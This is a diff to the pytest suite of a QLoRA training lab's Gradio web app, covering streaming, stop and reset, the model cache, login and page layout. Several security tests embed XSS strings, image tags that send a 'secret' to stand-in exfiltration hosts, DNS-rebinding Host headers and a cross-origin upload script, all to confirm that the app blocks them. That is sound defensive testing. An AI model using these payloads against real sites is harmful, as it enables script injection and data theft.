@@ -17,7 +17,9 @@ import sys
 import threading
 import time
 import weakref
+from dataclasses import dataclass
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 import torch
@@ -27,13 +29,24 @@ from qlora_lab import web_pages
 from qlora_lab.config import DatasetConfig, GenerationConfig
 from qlora_lab.data import encode, render_prompt
 from qlora_lab.inference import generate, load_for_inference
-from qlora_lab.pipelines.web import ModelSlot, conversation_ids, generation_settings, stream_reply
+from qlora_lab.pipelines.web import (
+    Guard,
+    ModelCache,
+    as_reply,
+    as_typed,
+    conversation_ids,
+    generation_settings,
+    served_names,
+    stream_reply,
+)
 from qlora_lab.report import write_report
 
 from .conftest import ROOT, TINY, cli, make_cfg
 
 ARTIFACTS = ROOT / "outputs" / "test-artifacts" / "web"
 GREEDY = GenerationConfig(max_new_tokens=12)
+LONG_JOB = "3_+experiment=lora_vs_qlora,dataset.size=16,quantization=nf4,train.max_steps=4,lora.r=16"
+OTHER_HOST = "attacker.example"  # a name the test browser resolves to 127.0.0.1: another site, or DNS rebinding
 
 
 @pytest.fixture(scope="module")
@@ -48,6 +61,9 @@ def outputs(tmp_path_factory):
     job = out / "multirun" / "demo" / "0_quantization=none"
     shutil.copytree(run_dir, job, ignore=shutil.ignore_patterns("adapter", "checkpoints"))
     write_report(job.parent)
+    # a sweep job's folder as Hydra names it: long, with `=`, `+` and `,`
+    shutil.copytree(run_dir, out / "multirun" / "2026-11-30" / "08-12-33" / LONG_JOB,
+                    ignore=shutil.ignore_patterns("checkpoints"))
     return out
 
 
@@ -72,7 +88,7 @@ def test_runs_table_lists_runs_newest_first_without_the_web_app_itself(tmp_path)
     rows = web_pages.runs_table(tmp_path)
     assert [r["run"] for r in rows] == ["multirun/s/0_x=1", "a/old"]
     old = rows[1]
-    assert old == {"run": "a/old", "date": "2026-11-01 10:00", "model": "m", "quantization": "nf4",
+    assert old == {"run": "a/old", "started (UTC)": "2026-11-01 10:00", "model": "m", "quantization": "nf4",
                    "dataset": "alpaca (8)", "stages": "train", "status": "completed",
                    "eval loss before": "2.5000", "eval loss after": "1.2500"}
     assert rows[0]["status"] == "failed: boom" and rows[0]["eval loss after"] == "–"
@@ -130,11 +146,11 @@ def test_conversation_is_rendered_as_in_training_and_trimmed_to_fit(tokenizer):
 
 def test_stream_reply_streams_what_generate_returns(outputs):
     cfg = make_cfg([*TINY, "quantization=none"])
-    slot = ModelSlot(cfg, None)
+    slot = ModelCache(cfg, None)
     loaded = slot.get(None, "base")
     prompt = render_prompt([{"role": "user", "content": "Name a colour."}], loaded.tokenizer, cfg.dataset)
     ids = encode(prompt, loaded.tokenizer, return_tensors="pt")["input_ids"]
-    steps = list(stream_reply(loaded, ids, GREEDY))
+    steps = list(stream_reply(loaded, ids, GREEDY, every_s=0))
     texts = [text for text, _ in steps]
     assert len({t for t in texts[:-1] if t}) >= 2  # the answer grows piece by piece
     final, stats = steps[-1]
@@ -144,7 +160,7 @@ def test_stream_reply_streams_what_generate_returns(outputs):
 
 
 def test_a_failed_generation_is_raised_to_the_page(outputs):
-    slot = ModelSlot(make_cfg([*TINY, "quantization=none"]), None)
+    slot = ModelCache(make_cfg([*TINY, "quantization=none"]), None)
     loaded = slot.get(None, "base")
     ids = torch.tensor([[1, 2, 3]])
     gen = generation_settings(GREEDY, False, 1.0, 50, 1.0, 4, 1.0)
@@ -153,24 +169,118 @@ def test_a_failed_generation_is_raised_to_the_page(outputs):
         list(stream_reply(loaded, ids, gen))
 
 
-def test_model_slot_holds_one_model_at_a_time(outputs):
+def generation_threads() -> list[threading.Thread]:
+    return [t for t in threading.enumerate() if t.name == "web-generate"]
+
+
+def test_stop_and_closing_end_the_generation(outputs):
+    """The Stop button's event ends the answer early; a closed stream (page gone, event cancelled) ends generate()."""
+    loaded = ModelCache(make_cfg([*TINY, "quantization=none"]), None).get(None, "base")
+    ids = torch.tensor([[1, 2, 3]])
+    long = GenerationConfig(max_new_tokens=500)
+    stop = threading.Event()
+    steps = []
+    for _, stats in stream_reply(loaded, ids, long, stop):
+        steps.append(stats)
+        if stats["new_tokens"] >= 5:
+            stop.set()
+    assert steps[-1]["stopped"] and 5 <= steps[-1]["new_tokens"] < 500 and not generation_threads()
+
+    stream = stream_reply(loaded, ids, long)
+    next(stream)
+    assert generation_threads()
+    stream.close()  # what Gradio does when the client goes away
+    assert not generation_threads()
+
+
+def test_page_text_shows_what_was_typed_and_no_html_or_images():
+    typed = "<script>alert(1)</script> **bold** ![x](http://127.0.0.2:8765/exfil?secret=42) a_b & 1. $x$"
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt().render(as_typed(typed))
+    assert "<script" not in html and "<img" not in html and "<strong" not in html
+    import html as html_lib
+    import re as re_lib
+
+    assert html_lib.unescape(re_lib.sub(r"<[^>]+>", "", html)).strip() == typed
+    reply = "Look: ![x](http://evil/exfil) <img src=x onerror=alert(1)> `<b>code</b>`\n```\n<i>kept</i>\n```"
+    html = MarkdownIt().render(as_reply(reply))
+    assert "<img" not in html and "exfil" in html  # the image's markdown shown as text, not fetched
+    assert "&lt;b&gt;code&lt;/b&gt;" in html and "&lt;i&gt;kept&lt;/i&gt;" in html  # code as written
+
+
+def test_the_evaluate_command_suggested_for_a_sweep_job_can_be_pasted(tmp_path):
+    """A sweep job's folder name holds `=`, `+` and `,`: the command quotes it for the shell and for Hydra."""
+    import shlex
+
+    from hydra.core.override_parser.overrides_parser import OverridesParser
+
+    job = tmp_path / "multirun" / "s" / "3_+experiment=lora_vs_qlora,dataset.size=16,quantization=nf4"
+    text = web_pages.run_details(job)["evaluation"]
+    command = text.split("`")[1]
+    words = shlex.split(command)
+    assert words[:4] == ["python", "-m", "qlora_lab", "pipeline=evaluate"], command
+    override = OverridesParser.create().parse_overrides(words[4:])[0]
+    assert override.key_or_group == "run_dir" and override.value() == str(job)
+    assert web_pages.shell_arg("run_dir", "outputs/a/b") == "run_dir=outputs/a/b"
+
+
+def test_the_guard_refuses_foreign_hosts_cross_origin_posts_and_uploads():
+    from starlette.applications import Starlette
+    from starlette.responses import PlainTextResponse
+    from starlette.routing import Route
+    from starlette.testclient import TestClient
+
+    ok = lambda request: PlainTextResponse("ok")  # noqa: E731
+    app = Starlette(routes=[Route("/config", ok), Route("/gradio_api/queue/join", ok, methods=["POST"]),
+                            Route("/gradio_api/upload", ok, methods=["POST"])])
+    client = TestClient(Guard(app, served_names("127.0.0.1")), base_url="http://127.0.0.1:7860")
+    page = client.get("/config")
+    assert page.status_code == 200 and "img-src 'self'" in page.headers["content-security-policy"]
+    assert client.get("/config", headers={"Host": "[::1]:7860"}).status_code == 200
+    assert client.get("/config", headers={"Host": "attacker.example:7860"}).status_code == 400
+    assert client.post("/gradio_api/queue/join", headers={"Origin": "http://127.0.0.1:7860"}).status_code == 200
+    assert client.post("/gradio_api/queue/join", headers={"Origin": "http://evil.example"}).status_code == 403
+    assert client.post("/gradio_api/queue/join", headers={"Origin": "null"}).status_code == 403
+    assert client.post("/gradio_api/upload", headers={"Origin": "http://127.0.0.1:7860"}).status_code == 403
+    assert "attacker.example" in served_names("attacker.example") and served_names("0.0.0.0") > served_names("127.0.0.1")
+
+
+def test_model_cache_keeps_models_within_its_budget(outputs):
     run_dir = outputs / "tiny" / "run1"
     cfg = make_cfg([*TINY, "quantization=none", f"run_dir={run_dir}"])
-    slot = ModelSlot(cfg, run_dir)
-    first = slot.get(run_dir, "adapter")
-    assert slot.get(run_dir, "adapter") is first  # the same request reuses the loaded model
+    cache = ModelCache(cfg, run_dir, budget=10**12)  # room for both: side by side loads each once
+    first = cache.get(run_dir, "adapter")
+    second = cache.get(run_dir, "base")
+    assert cache.get(run_dir, "adapter") is first and cache.get(run_dir, "base") is second
+    assert first.bytes > 0 and not hasattr(second.model, "peft_config")
+
+    small = ModelCache(cfg, run_dir, budget=first.bytes + first.bytes // 2)  # room for one of these
+    first = small.get(run_dir, "adapter")
+    assert small.to_drop(small.key(run_dir, "base")) == [(str(run_dir), "adapter")]
     gone = weakref.ref(first.model)
     del first
-    second = slot.get(run_dir, "base")
+    second = small.get(run_dir, "base")
     gc.collect()
-    assert gone() is None and second.key == (str(run_dir), "base")
-    assert not hasattr(second.model, "peft_config")
+    assert gone() is None and list(small.loaded) == [(str(run_dir), "base")]
+
+
+def test_a_browsed_run_cannot_turn_on_trust_remote_code(outputs, tmp_path):
+    """A run folder's saved config may say trust_remote_code: true; only the app's own command line can."""
+    run_dir = tmp_path / "sneaky"
+    shutil.copytree(outputs / "tiny" / "run1", run_dir)
+    saved = OmegaConf.load(run_dir / ".hydra" / "config.yaml")
+    saved.model.trust_remote_code = True
+    OmegaConf.save(saved, run_dir / ".hydra" / "config.yaml")
+    assert ModelCache(make_cfg([*TINY]), None).run_config(run_dir).model.trust_remote_code is False
+    trusting = make_cfg([*TINY, "model.trust_remote_code=true"])
+    assert ModelCache(trusting, None).run_config(run_dir).model.trust_remote_code is True
 
 
 def test_adapter_mode_loads_what_the_run_trained(outputs):
     """The slot loads a run chosen in the page with that run's own config (here: not the job's)."""
     run_dir = outputs / "tiny" / "run1"
-    slot = ModelSlot(make_cfg(["quantization=nf4"]), None)  # the job's own settings differ from the run's
+    slot = ModelCache(make_cfg(["quantization=nf4"]), None)  # the job's own settings differ from the run's
     cfg = slot.run_config(run_dir)
     assert cfg.model.name_or_path == "tiny-random-llama" and cfg.quantization.method.value == "none"
     loaded = slot.get(run_dir, "adapter")
@@ -212,16 +322,20 @@ def test_a_port_in_use_is_refused_in_one_sentence():
     check_port("127.0.0.1", port)  # free again
 
 
-@pytest.fixture(scope="module")
-def app_url(outputs, tmp_path_factory):
-    """`python -m qlora_lab pipeline=web` on a free port, stopped with Ctrl-C (SIGINT) at the end."""
-    run_dir = outputs / "tiny" / "run1"
+@dataclass
+class Server:
+    url: str
+    port: int
+    lines: list[str]  # its stdout and stderr, line by line, as they come
+    temp_dir: Path  # GRADIO_TEMP_DIR: where an upload would land
+
+
+def launch(args: list[str], job: Path, **env) -> tuple[subprocess.Popen, str, list[str]]:
+    """`python -m qlora_lab pipeline=web ARGS` on a free port: (process, its URL, its output lines as they come)."""
     port = free_port()
-    env = dict(os.environ, PYTHONUNBUFFERED="1", HF_HUB_OFFLINE="1", TOKENIZERS_PARALLELISM="false")
-    job = tmp_path_factory.mktemp("web_job")
-    proc = subprocess.Popen([sys.executable, "-m", "qlora_lab", "pipeline=web", f"run_dir={run_dir}",
-                             "model=tiny_random", "generation.max_new_tokens=48", f"web.port={port}",
-                             f"paths.output_dir={outputs}", f"hydra.run.dir={job}"],
+    env = dict(os.environ, PYTHONUNBUFFERED="1", HF_HUB_OFFLINE="1", TOKENIZERS_PARALLELISM="false", **env)
+    proc = subprocess.Popen([sys.executable, "-m", "qlora_lab", "pipeline=web", *args, f"web.port={port}",
+                             f"hydra.run.dir={job}"],
                             cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
     lines: list[str] = []
     ready = threading.Event()
@@ -238,11 +352,85 @@ def app_url(outputs, tmp_path_factory):
         pytest.fail("the web app did not print its URL within 120 s:\n" + "".join(lines)[-3000:])
     url = next(line for line in lines if line.startswith("web app: http")).split()[2]
     assert url == f"http://127.0.0.1:{port}"
-    yield url
+    return proc, url, lines
+
+
+def stop(proc: subprocess.Popen, lines: list[str], job: Path) -> None:
+    """Ctrl-C (SIGINT): a clean end of the stage."""
     proc.send_signal(signal.SIGINT)
     assert proc.wait(120) == 0, "".join(lines)[-3000:]
     assert "web app stopped" in "".join(lines)
     assert json.loads((job / "run.json").read_text())["status"] == "completed"
+
+
+@pytest.fixture(scope="module")
+def app(outputs, tmp_path_factory):
+    """The app on a tiny trained run, with GRADIO_TEMP_DIR in a folder of its own."""
+    temp_dir, job = tmp_path_factory.mktemp("gradio_tmp"), tmp_path_factory.mktemp("web_job")
+    proc, url, lines = launch([f"run_dir={outputs / 'tiny' / 'run1'}", "model=tiny_random",
+                               "generation.max_new_tokens=48", f"paths.output_dir={outputs}"], job,
+                              GRADIO_TEMP_DIR=str(temp_dir))
+    yield Server(url, int(url.rsplit(":", 1)[1]), lines, temp_dir)
+    stop(proc, lines, job)
+
+
+def test_web_auth_asks_for_a_login_and_stays_off_disk(outputs, tmp_path):
+    """web.auth from the environment: the page needs the login, and the password is in no file of the job."""
+    import urllib.error
+    import urllib.parse
+    import urllib.request
+
+    job = tmp_path / "job"
+    proc, url, lines = launch(["model=tiny_random", "web.auth=${oc.env:WEB_LOGIN}", f"paths.output_dir={outputs}"],
+                              job, WEB_LOGIN="me:a-long-secret")
+    try:
+        with pytest.raises(urllib.error.HTTPError) as refused:
+            urllib.request.urlopen(f"{url}/config", timeout=30)
+        assert refused.value.code == 401
+
+        def login(password: str) -> int:
+            form = urllib.parse.urlencode({"username": "me", "password": password}).encode()
+            try:
+                with urllib.request.urlopen(urllib.request.Request(f"{url}/login", form), timeout=30) as answer:
+                    return answer.status
+            except urllib.error.HTTPError as e:
+                return e.code
+
+        assert login("wrong") == 400 and login("a-long-secret") == 200
+    finally:
+        stop(proc, lines, job)
+    assert not [p for p in job.rglob("*") if p.is_file() and b"a-long-secret" in p.read_bytes()]
+
+
+@pytest.fixture(scope="module")
+def app_url(app):
+    return app.url
+
+
+@pytest.fixture(scope="module")
+def other_site(tmp_path_factory):
+    """Another web site, http://attacker.example:PORT (the browser resolves the name to 127.0.0.1), serving the pages
+    the tests write into its folder and recording every path requested from it."""
+    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+
+    folder = tmp_path_factory.mktemp("other_site")
+    requested: list[str] = []
+
+    class Handler(SimpleHTTPRequestHandler):
+        def __init__(self, *args, **kwargs):
+            super().__init__(*args, directory=str(folder), **kwargs)
+
+        def do_GET(self):
+            requested.append(self.path)
+            super().do_GET()
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield SimpleNamespace(url=f"http://{OTHER_HOST}:{server.server_port}", folder=folder, requested=requested)
+    server.shutdown()
 
 
 @pytest.fixture(scope="module")
@@ -254,7 +442,7 @@ def browser(app_url):
     options = webdriver.ChromeOptions()
     options.binary_location = chromium  # the system browser and driver: nothing is downloaded
     for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
-                "--window-size=1280,1000"):
+                "--window-size=1280,1000", f"--host-resolver-rules=MAP {OTHER_HOST} 127.0.0.1"):
         options.add_argument(arg)
     browser = webdriver.Chrome(service=Service(driver), options=options)
     browser.get(app_url)
@@ -392,3 +580,326 @@ def test_sweeps_page_shows_the_report(browser):
     wait_for(lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the sweep's summary.md")
     wait_for(lambda: len(browser.find_elements(By.CSS_SELECTOR, "#sweep-plots img")) >= 3, what="the plots")
     browser.save_screenshot(str(ARTIFACTS / "sweeps.png"))
+
+
+# ---------------------------------------------------------------- safe on a shared machine, finished where a user looks
+
+def server_line(app: Server, text: str, since: int, timeout: float) -> str:
+    """The first line of the app's output from line `since` on that holds `text`."""
+    try:
+        return wait_for(lambda: next((line for line in app.lines[since:] if text in line), None), timeout,
+                        f"{text!r} in the app's output")
+    except AssertionError as e:
+        raise AssertionError(f"{e}; its output since:\n{''.join(app.lines[since:])[-3000:]}") from None
+
+
+def set_max_new_tokens(browser, n: int) -> None:
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.common.keys import Keys
+
+    css = "#max-new-tokens input[type=number]"
+    if not [b for b in browser.find_elements(By.CSS_SELECTOR, css) if b.is_displayed()]:
+        wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#settings button"), what="the settings")[0].click()
+    box = wait_for(lambda: [b for b in browser.find_elements(By.CSS_SELECTOR, css) if b.is_displayed()],
+                   what="the generation settings")[0]
+    box.send_keys(Keys.CONTROL, "a")
+    box.send_keys(str(n), Keys.TAB)
+    wait_for(lambda: box.get_attribute("value") == str(n), what=f"max new tokens = {n}")
+
+
+def send_message(browser, text: str) -> None:
+    from selenium.webdriver.common.by import By
+
+    open_tab(browser, "Chat")
+    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")
+    browser.find_element(By.CSS_SELECTOR, "#chat-input textarea").send_keys(text)
+    browser.find_element(By.ID, "chat-send").click()
+
+
+def bubbles(browser, who: str) -> list[str]:
+    from selenium.webdriver.common.by import By
+
+    return [b.text for b in browser.find_elements(By.CSS_SELECTOR, f'#chat-history [data-testid="{who}"]')]
+
+
+def test_a_foreign_host_is_refused(browser, app):
+    """DNS rebinding: a page on another name that resolves to this machine gets no app, and no API."""
+    import urllib.error
+    import urllib.request
+
+    from selenium.webdriver.common.by import By
+
+    browser.get(f"http://{OTHER_HOST}:{app.port}/")
+    assert "is not served here" in browser.find_element(By.TAG_NAME, "body").text
+    assert not browser.find_elements(By.ID, "chat-input")
+    request = urllib.request.Request(f"{app.url}/config", headers={"Host": f"{OTHER_HOST}:{app.port}"})
+    with pytest.raises(urllib.error.HTTPError) as refused:
+        urllib.request.urlopen(request, timeout=30)
+    assert refused.value.code == 400
+    with urllib.request.urlopen(f"{app.url}/config", timeout=30) as page:  # its own address still works
+        assert page.status == 200
+    browser.get(app.url)
+
+
+def test_a_cross_origin_upload_and_post_are_refused(browser, app, other_site):
+    (other_site.folder / "upload.html").write_text(f"""<script>
+        const form = new FormData();
+        form.append("files", new Blob(["cross-site payload"]), "payload.txt");
+        const post = (path, body) => fetch("{app.url}" + path, {{method: "POST", mode: "no-cors", body}})
+            .then(() => "sent", e => "failed: " + e);
+        Promise.all([post("/gradio_api/upload", form),
+                     post("/gradio_api/queue/join", JSON.stringify({{data: ["hi"], fn_index: 0}}))])
+            .then(r => {{ window.done = r; }});
+    </script>""")
+    since = len(app.lines)
+    browser.get(f"{other_site.url}/upload.html")
+    wait_for(lambda: browser.execute_script("return window.done"), what="the other site's requests")
+    server_line(app, "refused POST /gradio_api/upload", since, 10)
+    server_line(app, "refused POST /gradio_api/queue/join", since, 10)
+    landed = [p for p in app.temp_dir.rglob("*") if p.is_file() and b"cross-site payload" in p.read_bytes()]
+    assert not landed
+    browser.get(app.url)
+
+
+def test_typed_html_is_shown_as_text_and_no_remote_image_is_fetched(browser, app, other_site):
+    from selenium.webdriver.common.by import By
+
+    browser.get(app.url)
+    typed = (f'<script>window.pwned = 1</script> <img src="{other_site.url}/exfil-img?secret=42"> '
+             f'![x]({other_site.url}/exfil-md?secret=42) **not bold** a_b_c')
+    send_message(browser, typed)
+    wait_for(lambda: "tokens/s" in text_of(browser, "chat-status"), what="the reply")
+    assert bubbles(browser, "user")[-1].strip() == typed
+    assert not browser.find_elements(By.CSS_SELECTOR, "#chat-history img, #chat-history strong")
+    # however an image got into the page (a reply), its policy lets the browser fetch none from elsewhere
+    browser.execute_script(f"const i = document.createElement('img'); i.src = '{other_site.url}/exfil-csp'; "
+                           f"document.body.appendChild(i);")
+    time.sleep(2)
+    assert not [p for p in other_site.requested if "exfil" in p], other_site.requested
+    assert browser.execute_script("return window.pwned") is None
+    browser.save_screenshot(str(ARTIFACTS / "chat_typed_html.png"))
+    browser.find_element(By.ID, "chat-reset").click()
+
+
+def answer_started(browser) -> None:
+    try:
+        wait_for(lambda: "generating" in text_of(browser, "chat-status"), what="the answer to start")
+    except AssertionError:
+        browser.save_screenshot(str(ARTIFACTS / "no_answer.png"))
+        raise AssertionError(f"no answer started; the status says {text_of(browser, 'chat-status')!r}") from None
+
+
+def test_stop_ends_the_generation_and_keeps_the_answer_so_far(browser, app):
+    from selenium.webdriver.common.by import By
+
+    set_max_new_tokens(browser, 1024)
+    send_message(browser, "Count to a thousand.")
+    answer_started(browser)
+    since, clicked = len(app.lines), time.monotonic()
+    browser.find_element(By.ID, "chat-stop").click()
+    try:
+        line = server_line(app, "generation stopped after", since, 10)
+    except AssertionError:
+        browser.save_screenshot(str(ARTIFACTS / "stop_failed.png"))
+        raise
+    ended_s = time.monotonic() - clicked
+    assert "(stop button)" in line and ended_s < 5, (line, ended_s)
+    status = wait_for(lambda: "stopped:" in (s := text_of(browser, "chat-status")) and s, what="the stopped status")
+    tokens = int(status.split("stopped: ")[1].split()[0])
+    assert 0 < tokens < 1024 and bubbles(browser, "bot")[-1].strip(), status
+    browser.find_element(By.ID, "chat-reset").click()
+
+
+def test_closing_the_page_ends_its_generation(browser, app):
+    main = browser.current_window_handle
+    browser.switch_to.new_window("tab")
+    browser.get(app.url)
+    set_max_new_tokens(browser, 1024)
+    send_message(browser, "Count to a thousand.")
+    answer_started(browser)
+    since, closed = len(app.lines), time.monotonic()
+    browser.close()
+    browser.switch_to.window(main)
+    line = server_line(app, "generation stopped after", since, 15)
+    ended_s = time.monotonic() - closed
+    assert "went away" in line and ended_s < 10, (line, ended_s)
+
+
+def test_reset_during_an_answer_forgets_it(browser, app):
+    from selenium.webdriver.common.by import By
+
+    browser.get(app.url)
+    set_max_new_tokens(browser, 1024)
+    send_message(browser, "Count to a thousand.")
+    answer_started(browser)
+    browser.find_element(By.ID, "chat-reset").click()
+    wait_for(lambda: not bubbles(browser, "user"), what="the reset to clear the conversation")
+    time.sleep(3)
+    assert not bubbles(browser, "user") and not bubbles(browser, "bot")  # the stream did not come back
+    set_max_new_tokens(browser, 8)
+    send_message(browser, "Second question.")
+    wait_for(lambda: "tokens/s" in text_of(browser, "chat-status"), what="the next reply")
+    assert bubbles(browser, "user") == ["Second question."] and len(bubbles(browser, "bot")) == 1
+
+
+def test_a_run_outside_the_roots_is_refused(browser, app, outputs, tmp_path):
+    """Only runs under paths.output_dir and run_dir's parent: a folder elsewhere, typed or posted, is not loaded."""
+    from gradio_client import Client
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.common.keys import Keys
+
+    elsewhere = tmp_path / "elsewhere"
+    shutil.copytree(outputs / "tiny" / "run1", elsewhere)  # a real run: loading it would work
+    browser.get(app.url)
+    box = wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#run-select input"), what="the run list")[0]
+    box.click()
+    box.send_keys(Keys.CONTROL, "a")
+    box.send_keys(str(elsewhere), Keys.ENTER)
+    browser.find_element(By.TAG_NAME, "h2").click()
+    wait_for(lambda: box.get_attribute("value") != str(elsewhere), 10, "the typed path to be dropped")
+
+    since = len(app.lines)
+    client = Client(app.url, verbose=False)
+    try:
+        result = client.predict("hi", str(elsewhere), "base", "", False, 1.0, 50, 1.0, 4, 1.0, api_name="/respond")
+        said = str(result[-1])
+    except Exception as e:  # noqa: BLE001 - Gradio's own check of the choices may answer first
+        said = str(e)
+    assert "not a run under" in said or "not in the list of choices" in said, said
+    assert not any("loaded in" in line and "elsewhere" in line for line in app.lines[since:])
+
+
+def test_a_sweep_plot_is_shown_whole(browser, app):
+    from selenium.webdriver.common.by import By
+
+    browser.get(app.url)
+    open_tab(browser, "Sweeps")
+    plots = wait_for(lambda: len(found := browser.find_elements(By.CSS_SELECTOR, "#sweep-plots img")) >= 3 and found,
+                     what="the plots")
+    browser.execute_script("arguments[0].scrollIntoView()", plots[0])
+    wait_for(lambda: all(browser.execute_script("return arguments[0].complete && arguments[0].naturalWidth", p)
+                         for p in plots), what="the plots to load")
+    for plot in plots:
+        box = browser.execute_script("""
+            const img = arguments[0], r = img.getBoundingClientRect();
+            const fit = getComputedStyle(img).objectFit;
+            let w = r.width, h = r.height;  // the drawn picture inside the box, for object-fit: contain
+            if (fit === 'contain' || fit === 'scale-down') {
+                const s = Math.min(r.width / img.naturalWidth, r.height / img.naturalHeight);
+                w = img.naturalWidth * s; h = img.naturalHeight * s;
+            }
+            let clipped = false;  // an ancestor that hides what overflows it, smaller than the picture
+            for (let p = img.parentElement; p && p.id !== 'sweep-plots'; p = p.parentElement) {
+                const o = getComputedStyle(p), q = p.getBoundingClientRect();
+                if ((o.overflow + o.overflowX + o.overflowY).includes('hidden') &&
+                    (q.width + 1 < w || q.height + 1 < h)) clipped = true;
+            }
+            return {w, h, nw: img.naturalWidth, nh: img.naturalHeight, fit, clipped};""", plot)
+        assert box["fit"] != "cover" and not box["clipped"], box
+        assert box["w"] / box["h"] == pytest.approx(box["nw"] / box["nh"], rel=0.02), box
+    browser.save_screenshot(str(ARTIFACTS / "sweep_plots.png"))
+
+
+def test_chat_input_and_send_are_in_view_at_1400x900(browser, app):
+    from selenium.webdriver.common.by import By
+
+    page_size(browser, 1400, 900)
+    try:
+        browser.get(app.url)
+        wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")
+        height = browser.execute_script("return window.innerHeight")
+        for css in ("#chat-input textarea", "#chat-send", "#chat-stop"):
+            bottom = browser.execute_script("return arguments[0].getBoundingClientRect().bottom",
+                                            browser.find_element(By.CSS_SELECTOR, css))
+            assert bottom <= height, (css, bottom, height)
+        browser.save_screenshot(str(ARTIFACTS / "chat_1400x900.png"))
+    finally:
+        browser.set_window_size(1280, 1000)
+
+
+def page_size(browser, width: int, height: int) -> None:
+    """The window size that gives the page width x height."""
+    browser.set_window_size(width, height)
+    inner = browser.execute_script("return [window.innerWidth, window.innerHeight]")
+    browser.set_window_size(2 * width - inner[0], 2 * height - inner[1])
+
+
+def test_runs_table_fits_long_names_and_says_utc(browser, app):
+    page_size(browser, 1400, 900)
+    browser.get(app.url)
+    open_tab(browser, "Runs")
+    wait_for(lambda: LONG_JOB in text_of(browser, "runs-table"), what="the sweep job in the runs table")
+    assert "started (UTC)" in text_of(browser, "runs-table")
+    rows = browser.execute_script("""return [...document.querySelectorAll('#runs-table [role="row"]')]
+        .map(r => [r.textContent, r.getBoundingClientRect().height]).filter(r => r[1] > 0)""")
+    long_row = next(height for text, height in rows if LONG_JOB in text)
+    short_row = next(height for text, height in rows if "tiny/run1" in text)
+    browser.save_screenshot(str(ARTIFACTS / "runs_long_names.png"))
+    assert long_row <= 1.6 * short_row, rows  # the date and the losses take two lines: the name three at most
+    browser.save_screenshot(str(ARTIFACTS / "runs_long_names.png"))
+    choose(browser, "run-open", f"multirun/2026-11-30/08-12-33/{LONG_JOB}")
+    command = wait_for(lambda: "pipeline=evaluate" in (t := text_of(browser, "run-evaluation")) and t,
+                       what="the suggested evaluate command")
+    assert "\"run_dir='" in command and "'\"" in command, command  # quoted for the shell and for Hydra
+    browser.set_window_size(1280, 1000)
+
+
+def test_new_runs_and_sweeps_show_on_reload_and_a_gone_sweep_says_so(browser, app, outputs):
+    from selenium.webdriver.common.by import By
+
+    shutil.copytree(outputs / "tiny" / "run1", outputs / "tiny" / "run3", ignore=shutil.ignore_patterns("checkpoints"))
+    later = outputs / "multirun" / "later"
+    shutil.copytree(outputs / "multirun" / "demo", later)
+    (later / "summary.md").write_text((later / "summary.md").read_text().replace("Sweep report: demo",
+                                                                                  "Sweep report: later"))
+    try:
+        browser.get(app.url)  # a reload reads the folders again
+        open_tab(browser, "Runs")
+        wait_for(lambda: "tiny/run3" in text_of(browser, "runs-table"), what="the new run in the runs table")
+        open_tab(browser, "Sweeps")
+        wait_for(lambda: "Sweep report: later" in text_of(browser, "sweep-summary"), what="the newest sweep")
+        shutil.rmtree(later)  # moved or deleted while the page shows it
+        browser.get(app.url)
+        open_tab(browser, "Sweeps")
+        wait_for(lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the remaining sweep")
+        assert not browser.find_elements(By.CSS_SELECTOR, ".toast-body")  # no error popup
+        # gone between listing and opening: the message is on that sweep only
+        shutil.copytree(outputs / "multirun" / "demo", later)
+        browser.find_element(By.ID, "sweeps-refresh").click()
+        choose(browser, "sweep-select", "multirun/later")  # listed again after ↻
+        shutil.rmtree(later)
+        choose(browser, "sweep-select", "multirun/demo")
+        wait_for(lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the demo sweep")
+        choose(browser, "sweep-select", "multirun/later")
+        wait_for(lambda: "cannot be read" in text_of(browser, "sweep-summary"), what="the gone sweep's message")
+        assert not browser.find_elements(By.CSS_SELECTOR, ".toast-body")
+    finally:
+        shutil.rmtree(later, ignore_errors=True)
+        shutil.rmtree(outputs / "tiny" / "run3", ignore_errors=True)
+
+
+def test_a_message_too_long_is_not_sent_and_trimmed_turns_are_named(browser, app):
+    from selenium.webdriver.common.by import By
+
+    browser.get(app.url)
+    open_tab(browser, "Chat")
+    set_max_new_tokens(browser, 1024)
+    long = "word " * 1100  # more than the tiny model's 2048 tokens of context with 1024 new ones
+    box = wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")[0]
+    browser.execute_script("arguments[0].value = arguments[1]; "
+                           "arguments[0].dispatchEvent(new Event('input', {bubbles: true}))", box, long)
+    browser.find_element(By.ID, "chat-send").click()
+    status = wait_for(lambda: "not sent" in (s := text_of(browser, "chat-status")) and s, what="the refusal")
+    assert "context of 2048 tokens" in status and "max new tokens 1024" in status, status
+    assert box.get_attribute("value").strip() == long.strip() and not bubbles(browser, "user")  # handed back
+
+    half = "word " * 500  # two of these with their answers do not fit: the first exchange is dropped
+    for _ in range(2):
+        browser.execute_script("arguments[0].value = arguments[1]; "
+                               "arguments[0].dispatchEvent(new Event('input', {bubbles: true}))", box, half)
+        browser.find_element(By.ID, "chat-send").click()
+        wait_for(lambda: "tokens/s" in text_of(browser, "chat-status"), 120, "the reply")
+    status = text_of(browser, "chat-status")
+    assert "the oldest 2 messages no longer fit the context (2048 tokens)" in status, status
+    assert len(bubbles(browser, "user")) == 2  # still in view
+    browser.find_element(By.ID, "chat-reset").click()
